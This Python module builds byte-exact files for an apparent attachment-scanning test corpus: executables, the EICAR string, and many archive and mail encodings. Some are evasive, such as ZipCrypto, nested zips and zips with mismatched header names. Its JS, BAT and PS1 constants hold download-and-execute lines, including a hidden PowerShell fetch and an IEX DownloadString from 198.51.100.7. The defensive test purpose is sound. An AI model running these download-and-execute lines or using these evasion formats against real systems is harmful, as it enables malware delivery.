"""File formats written byte for byte for the attack corpus, with fixed timestamps and no
external tool: payloads (PE, ELF, EICAR, PDF), archives (zip with and without ZipCrypto, tar.gz,
gzip, 7z, RAR 4, cabinet, ISO 9660), Outlook's TNEF, uuencode and yEnc.

Each writer was checked against an independent reader when it was written: libmagic for the
payloads, libarchive and 7-Zip for the archives, tnefparse for TNEF, a yEnc decoder.
"""

from __future__ import annotations

import base64
import binascii
import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterable
from urllib.parse import quote

# ---- payloads -------------------------------------------------------------------------------


def tiny_elf() -> bytes:
    """A static x86-64 ELF executable (ET_EXEC) that calls exit(0): application/x-executable."""
    code = b"\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"
    entry = 0x400000 + 64 + 56
    header = struct.pack(
        "<4sBBBBB7sHHIQQQIHHHHHH",
        b"\x7fELF", 2, 1, 1, 0, 0, bytes(7),  # 64-bit, little-endian, SysV
        2, 0x3E, 1, entry, 64, 0, 0, 64, 56, 1, 0, 0, 0,  # ET_EXEC, x86-64
    )  # fmt: skip
    size = 64 + 56 + len(code)
    program = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 0x1000)
    return header + program + code


def eicar() -> bytes:
    """The EICAR test string, assembled so that this source file itself is not it."""
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"


def tiny_pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


JS = b'var shell = new ActiveXObject("WScript.Shell");\r\nshell.Run("cmd /c calc.exe");\r\n'
BAT = b'@echo off\r\nstart /b powershell -w hidden -c "iwr http://198.51.100.7/a"\r\n'
PS1 = b"$c = New-Object Net.WebClient\r\nIEX $c.DownloadString('http://198.51.100.7/a.ps1')\r\n"
README = b"Please read the enclosed documents.\r\n"


# ---- archives, written byte for byte --------------------------------------------------------

DATE_TIME = (2024, 1, 2, 3, 4, 5)


def zip_of(files: Iterable[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files:
            archive.writestr(zipfile.ZipInfo(name, date_time=DATE_TIME), data)
    return buffer.getvalue()


def nested_zip(levels: int, name: str, data: bytes) -> bytes:
    """`name` inside a zip inside a zip ... `levels` zips deep."""
    archive = zip_of([(name, data)])
    for level in range(levels - 1, 0, -1):
        archive = zip_of([(f"level{level}.zip", archive)])
    return archive


def dos_datetime() -> tuple[int, int]:
    year, month, day, hour, minute, second = DATE_TIME
    return (hour << 11) | (minute << 5) | (second // 2), ((year - 1980) << 9) | (month << 5) | day


def _zipcrypto_table() -> list[int]:
    table = []
    for n in range(256):
        c = n
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        table.append(c)
    return table


def zipcrypto_encrypt(data: bytes, password: bytes, crc: int) -> bytes:
    """Traditional PKWARE encryption (what "password: 1234" zips in malware mail use)."""
    table = _zipcrypto_table()
    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(byte: int) -> None:
        keys[0] = table[(keys[0] ^ byte) & 0xFF] ^ (keys[0] >> 8)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = table[(keys[2] ^ (keys[1] >> 24)) & 0xFF] ^ (keys[2] >> 8)

    def stream_byte() -> int:
        temp = (keys[2] | 2) & 0xFFFF
        return ((temp * (temp ^ 1)) >> 8) & 0xFF

    for byte in password:
        update(byte)
    header = bytes(range(0x41, 0x4C)) + bytes([crc >> 24])  # 11 fixed bytes, then the check
    out = bytearray()
    for byte in header + data:
        out.append(byte ^ stream_byte())
        update(byte)
    return bytes(out)


def encrypted_zip(name: str, data: bytes, password: bytes) -> bytes:
    """A stored, ZipCrypto-encrypted zip of one member: its name stays readable."""
    crc = zlib.crc32(data)
    body = zipcrypto_encrypt(data, password, crc)
    dos_time, dos_date = dos_datetime()
    raw_name = name.encode()
    fields = (20, 1, 0, dos_time, dos_date, crc, len(body), len(data), len(raw_name), 0)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields) + raw_name
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0, 0, 0)
    central += raw_name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(body), 0)
    return local + body + central + end


def cab(name: str, data: bytes) -> bytes:
    """A Microsoft cabinet (Explorer opens it like a folder) holding one uncompressed file."""
    dos_time, dos_date = dos_datetime()
    raw_name = name.encode() + b"\0"
    files_at = 36 + 8
    data_at = files_at + 16 + len(raw_name)
    block = struct.pack("<IHH", 0, len(data), len(data)) + data  # checksum 0: not computed
    header = b"MSCF" + struct.pack(
        "<IIIIIBBHHHHH", 0, data_at + len(block), 0, files_at, 0, 3, 1, 1, 1, 0, 0x4242, 0
    )
    folder = struct.pack("<IHH", data_at, 1, 0)  # one data block, no compression
    entry = struct.pack("<IIHHHH", len(data), 0, 0, dos_date, dos_time, 0x20) + raw_name
    return header + folder + entry + block


def gzip_of(name: str, data: bytes) -> bytes:
    """A plain .gz of one file; the header keeps its original name (FNAME)."""
    out = io.BytesIO()
    with gzip.GzipFile(filename=name, mode="wb", fileobj=out, mtime=0, compresslevel=9) as packed:
        packed.write(data)
    return out.getvalue()


def zip_after(prefix: bytes, files: Iterable[tuple[str, bytes]]) -> bytes:
    """A zip written after `prefix` (offsets counted from the file's start, as SFX archives)."""
    buffer = io.BytesIO()
    buffer.write(prefix)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files:
            archive.writestr(zipfile.ZipInfo(name, date_time=DATE_TIME), data)
    return buffer.getvalue()


def zip_local_name_differs(central: str, local: str, data: bytes) -> bytes:
    """A zip whose local header names `local` while the central directory names `central`."""
    assert len(central) == len(local)
    archive = bytearray(zip_of([(central, data)]))
    start = 30  # the one local header's name follows its 30 fixed bytes
    assert archive[start : start + len(central)] == central.encode()
    archive[start : start + len(local)] = local.encode()
    return bytes(archive)


def tar_gz(files: Iterable[tuple[str, bytes]]) -> bytes:
    tar_buffer = io.BytesIO()
    with tarfile.open(fileobj=tar_buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in files:
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 1704164645, 0o644
            archive.addfile(info, io.BytesIO(data))
    out = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0, compresslevel=9) as packed:
        packed.write(tar_buffer.getvalue())
    return out.getvalue()


def _7z_number(value: int) -> bytes:
    """7z's variable-length integer: up to 0x3FFF in two bytes is all these archives need."""
    if value < 0x80:
        return bytes([value])
    assert value < 0x4000
    return bytes([0x80 | (value >> 8), value & 0xFF])


def seven_zip(name: str, data: bytes) -> bytes:
    """A 7z archive holding one file with the Copy coder (no compression)."""
    number = _7z_number
    utf16_name = name.encode("utf-16-le") + b"\0\0"
    header = (
        b"\x01"  # Header
        + b"\x04"  # MainStreamsInfo
        + b"\x06" + number(0) + number(1) + b"\x09" + number(len(data)) + b"\x00"  # PackInfo
        + b"\x07" + b"\x0b" + number(1) + b"\x00"  # UnPackInfo: 1 folder, not external
        + b"\x01" + b"\x01" + b"\x00"  # 1 coder: id size 1, simple; id 00 = Copy
        + b"\x0c" + number(len(data))  # CodersUnPackSize
        + b"\x00"  # end UnPackInfo
        + b"\x08" + b"\x0a" + b"\x01" + struct.pack("<I", zlib.crc32(data))  # SubStreamsInfo
        + b"\x00"  # end SubStreamsInfo
        + b"\x00"  # end MainStreamsInfo
        + b"\x05" + number(1)  # FilesInfo: 1 file
        + b"\x11" + number(len(utf16_name) + 1) + b"\x00" + utf16_name  # names, not external
        + b"\x15" + number(6) + b"\x01\x00" + struct.pack("<I", 0x20)  # attributes: archive
        + b"\x00"  # end FilesInfo
        + b"\x00"  # end Header
    )  # fmt: skip
    tail = struct.pack("<QQI", len(data), len(header), zlib.crc32(header))
    start = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(tail)) + tail
    return start + data + header


def rar4(name: str, data: bytes) -> bytes:
    """A RAR 4 archive holding one stored (method 0x30) file."""

    def block(body: bytes) -> bytes:
        return struct.pack("<H", zlib.crc32(body) & 0xFFFF) + body

    marker = b"Rar!\x1a\x07\x00"
    main = block(struct.pack("<BHHHI", 0x73, 0, 13, 0, 0))
    dos_time, dos_date = dos_datetime()
    raw_name = name.encode()
    file_header = struct.pack(
        "<BHHIIBIIBBHI",
        0x74, 0x8000, 32 + len(raw_name), len(data), len(data), 2,  # stored, from Windows
        zlib.crc32(data), (dos_date << 16) | dos_time, 20, 0x30, len(raw_name), 0x20,
    )  # fmt: skip
    end = block(struct.pack("<BHH", 0x7B, 0x4000, 7))
    return marker + main + block(file_header + raw_name) + data + end


def iso9660(
    files: list[tuple[str, bytes]], volume: str = "DOCUMENTS", min_sectors: int = 25
) -> bytes:
    """A minimal ISO 9660 image: the files in its root directory (names 8.3, upper case)."""
    sector = 2048

    def both16(value: int) -> bytes:
        return struct.pack("<H", value) + struct.pack(">H", value)

    def both32(value: int) -> bytes:
        return struct.pack("<I", value) + struct.pack(">I", value)

    recorded = bytes([124, 1, 2, 3, 4, 5, 0])  # 2024-01-02 03:04:05 UTC

    def record(ident: bytes, extent: int, size: int, flags: int) -> bytes:
        length = 33 + len(ident) + (1 - len(ident) % 2)
        return (
            bytes([length, 0]) + both32(extent) + both32(size) + recorded
            + bytes([flags, 0, 0]) + both16(1) + bytes([len(ident)]) + ident
            + bytes(length - 33 - len(ident))
        )  # fmt: skip

    root_extent, first_file = 20, 21
    extents, next_extent = [], first_file
    for _, data in files:
        extents.append(next_extent)
        next_extent += max(1, -(-len(data) // sector))
    total = max(next_extent, min_sectors)  # libarchive reads 24 sectors ahead before it bids
    root = record(b"\0", root_extent, sector, 2) + record(b"\1", root_extent, sector, 2)
    for (name, data), extent in zip(files, extents, strict=True):
        root += record(name.upper().encode() + b";1", extent, len(data), 0)
    date17 = b"2024010203040500\0"
    pvd = (
        b"\x01CD001\x01\x00" + b" " * 32 + volume.encode().ljust(32) + bytes(8)
        + both32(total) + bytes(32) + both16(1) + both16(1) + both16(sector)
        + both32(10) + struct.pack("<II", 18, 0) + struct.pack(">II", 19, 0)
        + record(b"\0", root_extent, sector, 2)
        + b" " * (128 * 4 + 37 * 3) + date17 * 2 + b"0" * 16 + b"\0" + date17
        + b"\x01\x00" + bytes(512 + 653)
    )  # fmt: skip
    assert len(pvd) == sector
    terminator = b"\xffCD001\x01" + bytes(sector - 7)
    l_path = b"\x01\x00" + struct.pack("<IH", root_extent, 1) + b"\0\0"
    m_path = b"\x01\x00" + struct.pack(">IH", root_extent, 1) + b"\0\0"
    image = bytes(16 * sector) + pvd + terminator
    for table in (l_path, m_path, root):
        image += table.ljust(sector, b"\0")
    for _, data in files:
        image += data.ljust(max(1, -(-len(data) // sector)) * sector, b"\0")
    return image.ljust(total * sector, b"\0")


def tnef(attachments: list[tuple[str, bytes]]) -> bytes:
    """An Outlook winmail.dat (TNEF) carrying `attachments` with their long names."""

    def attribute(level: int, ident: int, data: bytes) -> bytes:
        checksum = sum(data) & 0xFFFF
        return struct.pack("<BII", level, ident, len(data)) + data + struct.pack("<H", checksum)

    def string8(prop: int, text: str) -> bytes:
        value = text.encode("cp1252") + b"\0"
        padded = value + bytes(-len(value) % 4)
        return struct.pack("<HHII", 0x001E, prop, 1, len(value)) + padded

    stream = struct.pack("<IH", 0x223E9F78, 0x4242)
    stream += attribute(1, 0x00089006, struct.pack("<I", 0x00010000))  # attTnefVersion
    stream += attribute(1, 0x00069007, struct.pack("<II", 1252, 0))  # attOemCodepage
    stream += attribute(1, 0x00078008, b"IPM.Microsoft Mail.Note\0")  # attMessageClass
    for name, data in attachments:
        stream += attribute(2, 0x00069002, struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0, 0, 0))
        stream += attribute(2, 0x00018010, name.encode("cp1252") + b"\0")  # attAttachTitle
        stream += attribute(2, 0x0006800F, data)  # attAttachData
        extension = name[name.rfind(".") :]
        props = (
            struct.pack("<I", 3)
            + struct.pack("<HHI", 0x0003, 0x3705, 1)  # PR_ATTACH_METHOD: by value
            + string8(0x3707, name)  # PR_ATTACH_LONG_FILENAME
            + string8(0x3703, extension)  # PR_ATTACH_EXTENSION
        )
        stream += attribute(2, 0x00069005, props)  # attAttachment
    return stream


# ---- text encodings -------------------------------------------------------------------------


def b64(data: bytes) -> str:
    return base64.encodebytes(data).decode("ascii")


def uuencode(name: str, data: bytes, mode: str = "644") -> str:
    lines = [f"begin {mode} {name}"]
    lines += [
        binascii.b2a_uu(data[i : i + 45]).decode().rstrip("\n") for i in range(0, len(data), 45)
    ]
    return "\n".join([*lines, "`", "end"]) + "\n"


def yencode(name: str, data: bytes, line: int = 128) -> str:
    """A single-part yEnc block (yEnc 1.3): bytes + 42, critical ones escaped with '='."""
    lines, current = [], bytearray()
    for byte in data:
        out = (byte + 42) % 256
        escape = out in (0x00, 0x0A, 0x0D, 0x3D) or (
            out in (0x09, 0x20, 0x2E) and (not current or len(current) >= line - 1)
        )
        current += bytes([0x3D, (out + 64) % 256]) if escape else bytes([out])
        if len(current) >= line:
            lines.append(bytes(current))
            current = bytearray()
    if current:
        lines.append(bytes(current))
    head = f"=ybegin line={line} size={len(data)} name={name}\n".encode()
    tail = f"=yend size={len(data)} crc32={zlib.crc32(data):08x}\n".encode()
    return raw(head + b"\n".join(lines) + b"\n" + tail)


def raw(data: bytes) -> str:
    """Bytes as text that `encode()` below turns back into the very same bytes."""
    return data.decode("utf-8", "surrogateescape")


def latin1(text: str) -> str:
    """`text` as raw ISO-8859-1 bytes (8-bit, unencoded) in a message."""
    return raw(text.encode("latin-1"))


def rfc2231(text: str) -> str:
    """A UTF-8 RFC 2231 extended value: utf-8''percent%20escaped."""
    return "utf-8''" + quote(text.encode(), safe="")


def rfc2047_b(text: str) -> str:
    return "=?utf-8?B?" + base64.b64encode(text.encode()).decode() + "?="


def encode(text: str) -> bytes:
    return text.encode("utf-8", "surrogateescape")


GIF_HEADER = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00"
)
GIF_HEADER += b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
